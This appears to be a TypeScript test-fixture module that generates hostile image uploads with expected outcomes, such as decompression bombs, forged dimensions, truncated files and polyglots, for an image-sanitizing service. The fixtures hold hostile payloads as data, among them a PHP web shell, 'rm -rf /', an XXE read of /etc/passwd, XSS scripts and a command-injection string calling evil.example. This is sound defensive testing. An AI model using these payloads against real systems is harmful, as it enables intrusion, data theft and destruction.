import { crc32, deflateSync } from 'node:zlib'

import sharp from 'sharp'

import { MARKER, jpeg, createPhonePhoto, png, withComment } from './pictures.ts'

/** The expected result: an error, a clean picture, or either. */
export type Outcome = 'rejected' | 'clean' | 'either'
export type HostileImage = { name: string; content: Buffer; outcome: Outcome }

const SCRIPT = `<script>alert("${MARKER}")</script>`
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`
const PNG_START = Buffer.from('89504e470d0a1a0a', 'hex')

const rejected = (name: string, content: Buffer | string): HostileImage => ({
  name,
  content: Buffer.from(content as Buffer),
  outcome: 'rejected',
})
const clean = (name: string, content: Buffer): HostileImage => ({ name, content, outcome: 'clean' })
const either = (name: string, content: Buffer): HostileImage => ({ name, content, outcome: 'either' })

/** Creates deterministic pseudorandom bytes. */
function createNoise(length: number, seed: number): Buffer {
  const bytes = Buffer.alloc(length)
  let state = seed
  for (let offset = 0; offset < length; offset += 1) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    bytes[offset] = state >>> 24
  }
  return bytes
}

function chunk(type: string, content: Buffer, { crc }: { crc?: number } = {}): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), content])
  const ends = Buffer.alloc(8)
  ends.writeUInt32BE(content.length, 0)
  ends.writeUInt32BE(crc ?? crc32(body), 4)
  return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)])
}

type Header = { width: number; height: number; depth?: number; color?: number; interlace?: number }

function header({ width, height, depth = 8, color = 2, interlace = 0 }: Header): Buffer {
  const content = Buffer.alloc(13)
  content.writeUInt32BE(width >>> 0, 0)
  content.writeUInt32BE(height >>> 0, 4)
  content.set([depth, color, 0, 0, interlace], 8)
  return chunk('IHDR', content)
}

const END = chunk('IEND', Buffer.alloc(0))
const buildPng = (...chunks: Buffer[]) => Buffer.concat([PNG_START, ...chunks, END])
const zeros = (bytes: number) => deflateSync(Buffer.alloc(bytes), { level: 9 })

/** Builds a valid small picture with extra data between header and pixels. */
const withChunks = (...chunks: Buffer[]) =>
  buildPng(header({ width: 4, height: 4 }), ...chunks, chunk('IDAT', zeros(4 * 13)))

export function createOtherFormats(images: Record<'gif' | 'webp' | 'avif' | 'tiff', Buffer>): HostileImage[] {
  const texts: Record<string, string> = {
    SVG: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`,
    'SVG with a header': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`,
    HTML,
    PHP: '<?php system($_GET["c"]); ?>',
    'shell script': '#!/bin/sh\nrm -rf /\n',
    'drawing commands':
      'push graphic-context\nimage over 0,0 1,1 \'url(https://evil.example/"|id")\'\npop graphic-context',
    PostScript: '%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file',
    PDF: '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF',
    JSON: '{"url":"https://evil.example"}',
    FITS: 'SIMPLE  =                    T'.padEnd(2880),
    'portable pixels': 'P6 1 1 255\nabc',
    text: MARKER,
  }
  const bytes: Record<string, string> = {
    ZIP: '504b03041400000008000000000000000000',
    'Windows program': '4d5a90000300000004000000ffff0000',
    'Linux program': '7f454c4602010100000000000000000002003e00',
    BMP: '424d3a000000000000003600000028000000010000000100000001001800',
    icon: '00000100010010100000010020006804000016000000',
    'JPEG XL': 'ff0a0010b0130050',
    'JPEG 2000': '0000000c6a5020200d0a870a',
    Photoshop: '38425053000100000000000000030000000100000001000800030000',
    HEIC: '0000001c6674797068656963000000006d69663168656963',
    video: '00000020667479706d70343200000000',
    'one byte': '00',
    'the first two bytes of a JPEG': 'ffd8',
    'a JPEG without content': 'ffd8ffd9',
    'three bytes of a JPEG': 'ffd8ff',
    'the signature of a PNG only': '89504e470d0a1a0a',
  }
  return [
    ...Object.entries(texts).map(([name, text]) => rejected(name, text)),
    ...Object.entries(bytes).map(([name, hex]) => rejected(name, Buffer.from(hex, 'hex'))),
    ...Object.entries(images).map(([name, content]) => rejected(name, content)),
    rejected('no bytes', Buffer.alloc(0)),
    rejected('noise', createNoise(5000, 1)),
    rejected('noise that starts like a JPEG', Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), createNoise(5000, 2)])),
    rejected('noise that starts like a PNG', Buffer.concat([PNG_START, createNoise(5000, 3)])),
  ]
}

const positions = (count: number, length: number) =>
  Array.from({ length: count }, (_, index) => Math.floor(((index + 1) * length) / (count + 2)))

/** Inverts one byte of a picture. */
const invertByte = (content: Buffer, offset: number) => {
  const changed = Buffer.from(content)
  changed[offset] = (changed[offset] ?? 0) ^ 0xff
  return changed
}

function overwriteSize(photo: Buffer, width: number, height: number): Buffer {
  const changed = Buffer.from(photo)
  const frame = changed.indexOf(Buffer.from([0xff, 0xc0, 0x00, 0x11]))
  changed.writeUInt16BE(height, frame + 5)
  changed.writeUInt16BE(width, frame + 7)
  return changed
}

/** Repeats the last scan. The decoder processes every pixel once per scan. */
function repeatScans(progressive: Buffer, times: number): Buffer {
  const scan = progressive.subarray(progressive.lastIndexOf(Buffer.from([0xff, 0xda])), -2)
  const repeated = Array.from({ length: times }, () => scan)
  return Buffer.concat([progressive.subarray(0, -2), ...repeated, progressive.subarray(-2)])
}

export async function createHostileJpegs(): Promise<HostileImage[]> {
  const photo = await jpeg(640, 480)
  const app1 = (content: Buffer) => Buffer.concat([Buffer.from([0xff, 0xe1, 0xff, 0xff]), content])
  const manyParts = Array.from({ length: 100 }, (_, index) => app1(createNoise(65_533, index)))
  const scans = await sharp(await jpeg(3000, 2000))
    .jpeg({ progressive: true })
    .toBuffer()
  return [
    clean('phone photo with location', await createPhonePhoto()),
    clean('JPEG followed by an HTML page', Buffer.concat([photo, Buffer.from(HTML)])),
    clean('JPEG followed by an archive', Buffer.concat([photo, Buffer.from('504b0304', 'hex'), createNoise(5000, 4)])),
    clean('JPEG with a script in its comment', withComment(photo, SCRIPT)),
    clean('JPEG with a program in its comment', withComment(photo, `<?php echo "${MARKER}" ?>`)),
    clean('JPEG followed by 9 MB', Buffer.concat([photo, createNoise(9_000_000, 5)])),
    either('JPEG with 6 MB of metadata', Buffer.concat([photo.subarray(0, 2), ...manyParts, photo.subarray(2)])),
    either('JPEG with a broken color profile', withProfile(photo, createNoise(3000, 6))),
    rejected('JPEG that claims 65,500 × 65,500', overwriteSize(photo, 65_500, 65_500)),
    rejected('JPEG that claims 30,000 × 30,000', overwriteSize(photo, 30_000, 30_000)),
    rejected('JPEG that claims no width', overwriteSize(photo, 0, 480)),
    either('JPEG that claims more than it has', overwriteSize(photo, 6000, 6000)),
    either('JPEG with 3,000 scans', repeatScans(scans, 3000)),
    ...positions(28, photo.length).map((offset) =>
      rejected(`JPEG cut after ${offset} bytes`, photo.subarray(0, offset)),
    ),
    ...positions(20, photo.length).map((offset) =>
      either(`JPEG with byte ${offset} changed`, invertByte(photo, offset)),
    ),
  ]
}

function withProfile(photo: Buffer, profile: Buffer): Buffer {
  const content = Buffer.concat([Buffer.from('ICC_PROFILE\0\u0001\u0001', 'latin1'), profile])
  const head = Buffer.from([0xff, 0xe2, 0, 0])
  head.writeUInt16BE(content.length + 2, 2)
  return Buffer.concat([photo.subarray(0, 2), head, content, photo.subarray(2)])
}

const textChunk = (type: string, keyword: string, content: Buffer) =>
  chunk(type, Buffer.concat([Buffer.from(`${keyword}\0`, 'latin1'), content]))

/** Creates decompression bombs and PNGs with wrong headers. */
function createBombs(): HostileImage[] {
  const square = (side: number, rest: Partial<Header> = {}) => header({ width: side, height: side, ...rest })
  const lines = (side: number, bytes: number) => chunk('IDAT', zeros(side * (1 + side * bytes)))
  return [
    rejected(
      'complete PNG of 30,000 × 30,000',
      buildPng(square(30_000, { depth: 1, color: 0 }), chunk('IDAT', zeros(30_000 * 3751))),
    ),
    rejected('PNG that claims 30,000 × 30,000', buildPng(square(30_000), chunk('IDAT', zeros(100)))),
    rejected(
      'PNG that claims 2,147,483,647 × 1',
      buildPng(header({ width: 2_147_483_647, height: 1 }), chunk('IDAT', zeros(100))),
    ),
    rejected(
      'PNG that claims 1 × 2,147,483,647',
      buildPng(header({ width: 1, height: 2_147_483_647 }), chunk('IDAT', zeros(100))),
    ),
    rejected('PNG that claims 4,294,967,295 × 4,294,967,295', buildPng(square(0xffffffff), chunk('IDAT', zeros(100)))),
    rejected(
      'PNG that claims 25,000 × 10',
      buildPng(header({ width: 25_000, height: 10 }), chunk('IDAT', zeros(10 * 75_001))),
    ),
    rejected('PNG that claims 7,000 × 7,000 with one line', buildPng(square(7000), chunk('IDAT', zeros(21_001)))),
    clean('PNG of 7,000 × 7,000 in one color', buildPng(square(7000, { color: 6 }), lines(7000, 4))),
    rejected('interlaced PNG of 7,000 × 7,000', buildPng(square(7000, { color: 6, interlace: 1 }), lines(7000, 4))),
    rejected('PNG of 7,000 × 7,000 in sixteen bits', buildPng(square(7000, { color: 6, depth: 16 }), lines(7000, 8))),
    either('PNG of 4 × 4 with 200 MB of pixels', buildPng(square(4), chunk('IDAT', zeros(200_000_000)))),
    either(
      'PNG with 100 MB in a compressed comment',
      withChunks(textChunk('zTXt', 'Comment', Buffer.concat([Buffer.of(0), zeros(100_000_000)]))),
    ),
    either(
      'PNG with 100 MB in a color profile',
      withChunks(textChunk('iCCP', 'sRGB', Buffer.concat([Buffer.of(0), zeros(100_000_000)]))),
    ),
    either(
      'PNG with 50,000 comments',
      withChunks(...Array.from({ length: 50_000 }, () => textChunk('tEXt', 'a', Buffer.from('b')))),
    ),
  ]
}

export async function createHostilePngs(): Promise<HostileImage[]> {
  const valid = await png(320, 240)
  const pixels = chunk('IDAT', zeros(4 * 13))
  const small = header({ width: 4, height: 4 })
  return [
    ...createBombs(),
    clean('PNG with a script in a comment', withChunks(textChunk('tEXt', 'Comment', Buffer.from(SCRIPT)))),
    clean('PNG followed by an HTML page', Buffer.concat([valid, Buffer.from(HTML)])),
    either('PNG with broken EXIF orientation', withChunks(chunk('eXIf', createNoise(300, 7)))),
    either('animated PNG', withChunks(chunk('acTL', Buffer.from('ffffffff00000000', 'hex')))),
    either('PNG with a wrong checksum', buildPng(small, chunk('IDAT', zeros(4 * 13), { crc: 1 }))),
    either('PNG without an end', buildPng(small, pixels).subarray(0, -12)),
    rejected('PNG without pixels', buildPng(small)),
    rejected('PNG whose pixels come first', buildPng(pixels, small)),
    either('PNG with two headers', buildPng(small, header({ width: 9000, height: 9000 }), pixels)),
    rejected('PNG with a bit depth of three', buildPng(header({ width: 4, height: 4, depth: 3 }), pixels)),
    rejected('PNG with an unknown color type', buildPng(header({ width: 4, height: 4, color: 7 }), pixels)),
    either('PNG with an unknown interlace method', buildPng(header({ width: 4, height: 4, interlace: 2 }), pixels)),
    rejected('PNG without width', buildPng(header({ width: 0, height: 4 }), pixels)),
    either(
      'PNG with 300 colors in its palette',
      buildPng(header({ width: 4, height: 4, color: 3 }), chunk('PLTE', createNoise(900, 8)), chunk('IDAT', zeros(20))),
    ),
    rejected(
      'PNG with an endless chunk',
      Buffer.concat([PNG_START, small, Buffer.from('ffffffff49444154', 'hex'), createNoise(100, 9)]),
    ),
    ...positions(16, valid.length).map((offset) =>
      rejected(`PNG cut after ${offset} bytes`, valid.subarray(0, offset)),
    ),
    ...positions(10, valid.length).map((offset) =>
      either(`PNG with byte ${offset} changed`, invertByte(valid, offset)),
    ),
  ]
}
